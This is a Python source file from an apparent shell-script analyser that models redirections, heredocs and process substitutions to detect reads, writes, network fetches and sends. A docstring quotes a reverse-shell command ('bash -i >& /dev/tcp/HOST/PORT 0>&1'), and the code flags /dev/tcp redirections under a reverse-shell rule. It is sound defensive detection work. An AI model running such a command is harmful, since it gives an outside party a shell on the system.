"""Redirections, the files behind them, and process substitutions."""

from __future__ import annotations

import itertools
from abc import ABC, abstractmethod
from collections.abc import Iterable
from dataclasses import replace

from checkrein.core.effect import UNKNOWN, Effect, EffectKind, Flag
from checkrein.detect.shell.disks import is_device
from checkrein.detect.shell.expand import Expander
from checkrein.detect.shell.frame import MAX_DEPTH, Frame, Recorder
from checkrein.detect.shell.model import World, absolute
from checkrein.detect.shell.nodes import Redirect, Script
from checkrein.detect.shell.values import ANYTHING, SILENT, Stream, Value, files_in

STANDARD_INPUT = frozenset(("/dev/stdin", "/dev/fd/0", "/proc/self/fd/0"))
SILENT_DEVICES = frozenset(
    ("/dev/null", "/dev/stdout", "/dev/stderr", "/dev/tty", "/dev/stdin", "/dev/zero", "/dev/random", "/dev/urandom")
)


class Redirections(Recorder, ABC):
    """What flows where: standard input and output, and what is known of files' content."""

    def __init__(self, world: World) -> None:
        super().__init__(world)
        self._descriptors = itertools.count(63)
        self._readers: dict[str, tuple[Script, Frame]] = {}  # >(...): what reads what is written there
        self._taken: dict[int, tuple[object, int]] = {}  # how many lines `read` took of a stream

    @abstractmethod
    def script(self, script: Script, frame: Frame) -> Stream:
        """Run commands one after the other; their outputs joined."""

    # -- redirections

    def redirections(
        self, redirects: Iterable[Redirect], frame: Frame, *, lasting: bool = False
    ) -> tuple[Stream | None, list[tuple[str, bool]]]:
        """Standard input, where it is redirected, and the files that standard output goes to (path, append).

        ``lasting`` ones (``exec 3<file``) stay open in the shell.
        """
        stdin: Stream | None = None
        sinks: list[tuple[str, bool]] = []
        opened = dict(frame.state.inputs)
        for redirect in redirects:
            expander = self.expander(frame)
            if redirect.heredoc is not None:
                value = expander.single(redirect.heredoc.body)
                stdin = Stream(value.text, value.origins)
                continue
            value = expander.single(redirect.target)
            if redirect.operator == "<<<":
                stdin = Stream(value.text + "\n", value.origins)
            elif redirect.operator in ("<", "<>"):
                opened[redirect.fd.strip("{}") or "0"] = read = self._input(value, frame)
                stdin = read if redirect.fd in ("", "0") else stdin
                if redirect.operator == "<>" and (path := self._output(value, frame)) and redirect.fd == "1":
                    sinks.append((path, True))
            elif redirect.operator in (">&", "<&") and (value.text.rstrip("-").isdecimal() or value.text in ("-", "")):
                if redirect.fd == "0" or (redirect.operator == "<&" and not redirect.fd):
                    stdin = opened.get(value.text.rstrip("-"), stdin)
            elif redirect.operator != "<&":
                path = self._output(value, frame)
                if path and redirect.fd in ("", "1"):
                    sinks.append((path, ">>" in redirect.operator))
                elif path:
                    self._put(path, Stream(), frame, append=">>" in redirect.operator)
        if not lasting:
            return stdin, sinks
        frame.state.inputs.update(opened)
        return stdin, sinks

    def connected(self, redirects: Iterable[Redirect], frame: Frame, program: str) -> None:
        """A shell that talks to a connection instead of a terminal: ``bash -i >& /dev/tcp/HOST/PORT 0>&1``."""
        for redirect in redirects:
            path = "" if redirect.heredoc else self.path(self.expander(frame).single(redirect.target), frame)
            if path.startswith(("/dev/tcp/", "/dev/udp/")):
                host = path.split("/")[3]
                detail = "a shell for whoever is at the other end"
                self.emit(Effect(EffectKind.RUN_FETCHED, host, program, rule="network.reverse-shell", detail=detail), frame)

    def _input(self, value: Value, frame: Frame) -> Stream:
        path = self.path(value, frame)
        if path.startswith(("/dev/tcp/", "/dev/udp/")):
            host = path.split("/")[3]
            self.emit(Effect(EffectKind.FETCH, host, "a shell redirection"), frame)
            return Stream(origins=frozenset((f"network:{host}",)))
        if path in SILENT_DEVICES and path not in STANDARD_INPUT:
            return SILENT if path == "/dev/null" else Stream()
        if not path.startswith("/dev/fd/"):
            flags = Flag.CONTENT_OUT | (Flag.GLOB if value.glob else Flag.NONE)
            self.emit(Effect(EffectKind.READ, path, "a shell redirection", flags=flags), frame)
        return self.content(path, frame)

    def _output(self, value: Value, frame: Frame) -> str:
        """Record a redirection to a file; its path, "" where it is a device."""
        path = self.path(value, frame)
        if path in self._readers:
            return path
        if path in SILENT_DEVICES or path.startswith("/dev/fd/"):
            return ""
        if path.startswith(("/dev/tcp/", "/dev/udp/")):
            reads = files_in(frame.stdin.origins) if frame.stdin else ()
            self.emit(Effect(EffectKind.SEND, path.split("/")[3], "a shell redirection", reads=reads), frame)
            return ""
        return path

    def sink(self, output: Stream, sinks: Iterable[tuple[str, bool]], frame: Frame) -> Stream:
        """Let ``output`` flow into the files, if there are any; what is left for the pipe."""
        written = False
        for path, append in sinks:
            written = True
            if path in self._readers:
                self.read_by(path, output)
                continue
            self._put(path, output, frame, append=append)
        return SILENT if written else output

    def _put(self, path: str, content: Stream, frame: Frame, *, append: bool) -> None:
        """A redirection to ``path``."""
        if is_device(path):
            self.emit(Effect(EffectKind.DEVICE, path, "a shell redirection"), frame)
        else:
            self.write(path, content, frame, append=append, program="a shell redirection")

    # -- content

    def write(self, path: str, content: Stream, frame: Frame, *, append: bool, program: str) -> None:
        """Record that ``content`` is put at ``path``, and remember it for what is run later."""
        text = None if UNKNOWN in content.text else content.text
        flags = Flag.APPEND if append else Flag.NONE
        effect = Effect(EffectKind.WRITE, path, program, flags=flags, reads=files_in(content.origins), text=text)
        self.emit(effect, frame)
        before = frame.state.files.get(path, SILENT) if append else SILENT
        frame.state.files[path] = before + content

    def written(self, path: str, frame: Frame) -> Stream | None:
        """What this command wrote at a path, or feeds to it; None where it did neither."""
        return frame.stdin if path in STANDARD_INPUT else frame.state.files.get(path)

    def content(self, path: str, frame: Frame) -> Stream:
        """What is known of a file's content: what this command wrote there, else what is on disk."""
        if path in STANDARD_INPUT:
            return frame.stdin or Stream()
        if path in frame.state.files:
            return frame.state.files[path]
        origin = frozenset((f"file:{path}",))
        text = None if UNKNOWN in path else self.world.script(path)
        return Stream(UNKNOWN if text is None else text, origin)

    def next_line(self, frame: Frame) -> Value:
        """What ``read`` gives next: one line of standard input after the other."""
        source = frame.line or frame.stdin
        if source is None:
            return ANYTHING
        _, taken = self._taken.get(id(source), (source, 0))
        self._taken[id(source)] = (source, taken + 1)  # the source is held, so that its id stays its own
        if isinstance(source, Value):
            return source if taken == 0 else Value(UNKNOWN, origins=source.origins)
        lines = source.text.split("\n")
        known = taken < len(lines) and not any(UNKNOWN in line for line in lines[:taken])
        return Value(lines[taken] if known else "" if UNKNOWN not in source.text else UNKNOWN, origins=source.origins)

    # -- process substitutions

    def finish(self) -> None:
        """Run the process substitutions that nothing was seen to write to."""
        while self._readers:
            self.read_by(next(iter(self._readers)), Stream())

    def read_by(self, path: str, content: Stream) -> None:
        """Run what reads ``path``, a process substitution, on what was written there."""
        body, frame = self._readers.pop(path)
        self.script(body, replace(frame, stdin=content))

    # -- words

    def path(self, value: Value, frame: Frame) -> str:
        """A field as an absolute path."""
        return absolute(value.text, frame.state.cwd) if value.text else frame.state.cwd

    def expander(self, frame: Frame) -> Expander:
        def substitute(body: Script) -> Value:
            inner = replace(frame, state=frame.state.fork(), depth=frame.depth + 1)
            if inner.depth > MAX_DEPTH:
                self.unresolved("a command substitution", f"is nested more than {MAX_DEPTH} deep", frame)
                return ANYTHING
            return self.script(body, inner).value()

        def process(body: Script, direction: str) -> str:
            path = f"/dev/fd/{next(self._descriptors)}"
            inner = replace(frame, state=frame.state.fork(), depth=frame.depth + 1)
            if direction == ">":
                self._readers[path] = (body, inner)
                return path
            frame.state.files[path] = self.script(body, inner) if inner.depth <= MAX_DEPTH else Stream()
            return path

        return Expander(frame.state, self.world, substitute, process)
